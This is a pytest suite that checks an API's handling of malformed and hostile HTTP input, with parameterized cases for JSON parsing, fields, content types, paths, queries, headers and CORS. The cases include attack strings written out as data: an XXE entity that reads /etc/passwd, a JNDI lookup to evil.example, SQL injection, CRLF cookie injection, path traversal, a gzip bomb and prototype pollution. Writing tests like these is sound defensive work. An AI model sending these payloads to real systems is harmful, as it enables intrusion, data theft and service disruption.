"""Bad input over real HTTP: a clear problem that names the field, no state changed, nothing repeated."""

import gzip
import json
from collections.abc import Mapping

import pytest

from tests.app.client import Answer, Api
from tests.app.conftest import Parts

START = "/lists/department/runs"
ULID = "01J00000000000000000000000"

BAD_BODIES: Mapping[str, bytes] = {
    "cut": b'{"mode":',
    "array": b"[]",
    "number": b"1",
    "text": b'"full"',
    "null": b"null",
    "NaN": b'{"dry_run": NaN}',
    "Infinity": b'{"dry_run": Infinity}',
    "-Infinity": b'{"dry_run": -Infinity}',
    "a name twice": b'{"mode": "full", "mode": "changes"}',
    "a name twice, once escaped": b'{"mode": "full", "mod\\u0065": "changes"}',
    "a name twice, deeper": b'{"mode": {"a": 1, "a": 2}}',
    "60,000 brackets": b"[" * 60_000,
    "17 levels": b'{"mode": ' + b"[" * 16 + b"]" * 16 + b"}",
    "5,000 digits": b'{"dry_run": ' + b"9" * 5000 + b"}",
    "1e400": b'{"dry_run": 1e400}',
    "UTF-16": '{"mode": "full"}'.encode("utf-16"),
    "UTF-8 with byte order mark": b"\xef\xbb\xbf" + b'{"mode": "full"}',
    "a byte that is no UTF-8": b'{"mode": "\xff"}',
    "an overlong UTF-8 form": b'{"mode": "\xc0\xaf"}',
    "half a surrogate pair": b'{"mode": "\\ud800"}',
    "half a surrogate pair in a name": b'{"\\udfff": 1}',
    "NUL": b'{"mode": "full\\u0000"}',
    "a raw line break in a text": b'{"mode": "fu\nll"}',
    "two objects": b"{}{}",
    "a comment": b'{"mode": "full"} // press',
    "single quotes": b"{'mode': 'full'}",
    "a comma too many": b'{"mode": "full",}',
    "form fields": b"mode=full",
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
}

BAD_FIELDS: Mapping[str, tuple[bytes, str]] = {
    "unknown mode": (b'{"mode": "FULL"}', "mode"),
    "mode a lookup": (b'{"mode": "${jndi:ldap://evil.example}"}', "mode"),
    "mode SQL": (b'{"mode": "full\' OR 1=1--"}', "mode"),
    "mode null": (b'{"mode": null}', "mode"),
    "mode an object": (b'{"mode": {"full": true}}', "mode"),
    "a text for true": (b'{"dry_run": "true"}', "dry_run"),
    "1 for true": (b'{"dry_run": 1}', "dry_run"),
    "-0 for false": (b'{"dry_run": -0}', "dry_run"),
    "a list for true": (b'{"confirm_gone": [true]}', "confirm_gone"),
    "a tenant": (b'{"tenant_id": "autre"}', "tenant_id"),
    "a role": (b'{"role": "admin"}', "role"),
    "a state": (b'{"state": "DONE"}', "state"),
    "__proto__": (b'{"__proto__": {"dry_run": true}}', "__proto__"),
    "constructor": (b'{"constructor": {}}', "constructor"),
    "an empty name": (b'{"": 1}', ""),
}

BAD_TYPES: Mapping[str, str] = {
    "none": "",
    "upper case": "APPLICATION/JSON",
    "text": "text/plain",
    "UTF-16": "application/json; charset=utf-16",
    "multipart": "multipart/form-data; boundary=x",
    "form": "application/x-www-form-urlencoded",
    "a kind of JSON": "application/problem+json",
    "two at once": "application/json, text/plain",
    "bytes": "application/octet-stream",
}


def refused(answer: Answer, status: int = 400) -> dict[str, object]:
    """The problem, checked for its form."""
    assert answer.status == status, answer.body
    assert answer.headers["content-type"] == "application/problem+json"
    problem: dict[str, object] = answer.json
    assert set(problem) == {"type", "title", "status", "detail", "code", "remedy", "errors", "instance"}
    assert problem["status"] == status
    assert problem["title"]
    assert problem["detail"]
    assert problem["remedy"]
    assert str(problem["instance"]).removeprefix("urn:uuid:") == answer.headers["x-request-id"]
    return problem


@pytest.fixture(autouse=True)
def _unchanged(parts: Parts) -> object:
    """Whatever was sent here, nothing may have begun."""
    yield
    assert not parts.queue.sent
    assert not parts.runs.page("demo", None, None, 10, "").runs


@pytest.mark.parametrize("case", BAD_BODIES)
def test_a_body_that_is_no_strict_json_object_is_refused(api: Api, case: str) -> None:
    problem = refused(api.post(START, BAD_BODIES[case]))
    assert problem["code"] == "body_invalid"
    assert b"passwd" not in json.dumps(problem).encode()


@pytest.mark.parametrize("case", BAD_FIELDS)
def test_a_field_that_does_not_fit_is_named(api: Api, case: str) -> None:
    body, field = BAD_FIELDS[case]
    problem = refused(api.post(START, body))
    assert problem["code"] == "field_invalid"
    assert [error["field"] for error in problem["errors"]] == [field]  # type: ignore[attr-defined]
    assert "evil" not in str(problem["detail"])


@pytest.mark.parametrize("case", BAD_TYPES)
def test_another_content_type_is_refused(api: Api, case: str) -> None:
    answer = api.send("POST", START, b"{}", {"Content_Type": BAD_TYPES[case]})
    assert refused(answer, 415)["code"] == "content_type"


def test_an_empty_body_is_refused_where_one_is_due(api: Api) -> None:
    refused(api.post(START), 415)
    refused(api.post(START, b""))


@pytest.mark.parametrize("encoding", ["gzip", "identity", "br"])
def test_a_compressed_body_is_refused_unopened(api: Api, encoding: str) -> None:
    bomb = gzip.compress(b"{" + b" " * 5_000_000 + b"}")
    refused(api.post(START, bomb, Content_Encoding=encoding), 415)


@pytest.mark.parametrize("size", [64 * 1024 + 1, 1_000_000])
def test_a_large_body_is_refused(api: Api, size: int) -> None:
    answer = api.post(START, b'{"mode": "full"' + b" " * (size - 16) + b"}")
    assert refused(answer, 413)["code"] == "body_too_large"


def test_a_body_where_none_is_due_is_refused(api: Api) -> None:
    assert refused(api.post(f"/runs/{ULID}/cancel", b'{"force": true}'))["code"] == "body_unexpected"


@pytest.mark.parametrize("list_key", ["Department", "department ", "department%00", "departments", "x'--", "<x>", "."])
def test_a_list_that_is_not_in_the_catalogue_is_not_found(api: Api, list_key: str) -> None:
    answer = api.post(f"/lists/{list_key.replace(' ', '%20')}/runs", {})
    assert refused(answer, 404)["code"] in ("list_unknown", "path_unknown")
    assert b"<x>" not in answer.body


@pytest.mark.parametrize(
    "run_id",
    [
        ULID[:-1],
        ULID + "0",
        ULID.lower(),
        ULID[:-1] + "I",
        "8" + ULID[1:],
        "..%2f..%2fme",
        ULID + "%00",
        ULID + "%0a",
        ULID + "%0d%0aSet-Cookie:%20a=b",
        "%ff" * 26,
        "x" * 9000,
        "%D9%A0" * 26,
        "{run_id}",
    ],
)
def test_a_run_number_that_is_none_is_not_found(api: Api, run_id: str) -> None:
    for method, path in (("GET", ""), ("GET", "/rows"), ("GET", "/errors"), ("POST", "/cancel")):
        answer = api.send(method, f"/runs/{run_id}{path}", b"", {})
        assert refused(answer, 404)["code"] == "run_unknown"
        assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("limit=1&limit=2", "limit"),
        ("limit=-1", "limit"),
        ("limit=0", "limit"),
        ("limit=101", "limit"),
        ("limit=1000000000", "limit"),
        ("limit=" + "9" * 400, "limit"),
        ("limit=1.5", "limit"),
        ("limit=5.0", "limit"),
        ("limit=1e1", "limit"),
        ("limit=", "limit"),
        ("limit=%2B5", "limit"),
        ("limit=05", "limit"),
        ("limit=%D9%A5", "limit"),
        ("limit=null", "limit"),
        ("state=done", "state"),
        ("state=null", "state"),
        ("state=", "state"),
        ("state=DONE&state=FAILED", "state"),
        ("list=none_such", "list"),
        ("list=", "list"),
        ("list[]=class", "list[]"),
        ("tenant=autre", "tenant"),
        ("_method=DELETE", "_method"),
        ("cursor=" + "x" * 2001, "cursor"),
    ],
)
def test_a_query_parameter_that_does_not_fit_is_named(api: Api, query: str, field: str) -> None:
    problem = refused(api.get(f"/runs?{query}"))
    assert [error["field"] for error in problem["errors"]] == [field]  # type: ignore[attr-defined]


@pytest.mark.parametrize("query", ["outcome=unchanged", "outcome=Failed", "outcome=", "limit=1001", "state=DONE"])
def test_a_query_parameter_of_the_rows_that_does_not_fit_is_refused(api: Api, query: str) -> None:
    refused(api.get(f"/runs/{ULID}/rows?{query}"))


@pytest.mark.parametrize("cursor", ["x", "AAAA", "%00", "eyJ0IjoiYXV0cmUifQ==", "'; DROP TABLE runs"])
def test_a_cursor_that_was_not_given_out_is_refused(api: Api, cursor: str) -> None:
    assert refused(api.get(f"/runs?cursor={cursor.replace(' ', '%20')}"))["code"] == "cursor_unknown"


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "HEAD", "TRACE", "BREW"])
def test_another_method_is_refused(api: Api, method: str) -> None:
    answer = api.send(method, "/runs", None, {})
    assert (answer.status, answer.headers["allow"]) == (405, "GET")
    if method != "HEAD":
        assert refused(answer, 405)["code"] == "method"


@pytest.mark.parametrize("header", ["X_HTTP_Method_Override", "X_Method_Override", "X_HTTP_Method"])
def test_a_header_does_not_change_the_method(api: Api, header: str) -> None:
    answer = api.post("/runs", {}, **{header: "GET"})
    assert answer.status == 405


@pytest.mark.parametrize("path", ["//runs", "/runs//", "/run", "/Runs", "/runs%2f", "/..%2fv1/runs", "/v2/runs", "/"])
def test_a_look_alike_path_is_not_found(api: Api, path: str) -> None:
    assert api.send("GET", f"/api/v1{path}", None, {}).status == 404


@pytest.mark.parametrize(
    "headers",
    [
        {"X_Forwarded_For": "10.0.0.1", "X_Real_IP": "10.0.0.1"},
        {"Host": "evil.example"},
        {"X_Forwarded_Host": "evil.example", "Forwarded": "host=evil.example"},
        {"Origin": "null", "Sec_Fetch_Site": "cross-site"},
        {"X_Tenant": "autre", "X_User": "root", "X_Amzn_Oidc_Identity": "root"},
    ],
)
def test_forged_headers_open_nothing_and_do_not_come_back(api: Api, headers: Mapping[str, str]) -> None:
    assert api.as_("").get("/me", **headers).status == 401
    answer = api.get("/me", **headers)
    assert answer.json["tenant"] == "demo"
    assert "evil.example" not in str(answer)


def test_another_origin_gets_no_leave_from_a_preflight(api: Api) -> None:
    headers = {"Origin": "https://evil.example", "Access_Control_Request_Method": "POST"}
    for answer in (api.send("OPTIONS", START, None, headers), api.get("/me", **headers)):
        assert not [name for name in answer.headers if name.startswith("access-control-allow-origin")]
        assert "access-control-allow-credentials" not in answer.headers


@pytest.mark.parametrize(
    ("method", "path"), [("GET", "/health"), ("GET", "/me"), ("GET", "/runs?x=1"), ("PUT", "/me"), ("GET", "/none")]
)
def test_every_answer_carries_the_security_headers(api: Api, method: str, path: str) -> None:
    headers = api.send(method, path, None, {}).headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["cache-control"] == "no-store"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert headers["strict-transport-security"].startswith("max-age=31536000")
    assert "server" not in headers
